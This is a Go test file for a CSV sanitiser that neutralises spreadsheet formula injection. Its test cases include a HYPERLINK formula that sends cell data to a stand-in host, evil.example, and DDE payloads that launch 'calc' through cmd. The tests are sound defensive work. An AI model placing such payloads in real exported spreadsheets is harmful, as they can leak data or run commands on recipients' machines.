package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCellNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Price list 2026", "Price list 2026"},
		{"a=b", "a=b"},
		{"", ""},
		{"'already quoted", "'already quoted"},
	}
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCellsSurviveCSVRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	if err := w.Write(Cells([]string{"=1+1", "ok", "-x"})); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if rec[0] != "'=1+1" || rec[1] != "ok" || rec[2] != "'-x" {
		t.Errorf("round trip: %q", rec)
	}
}
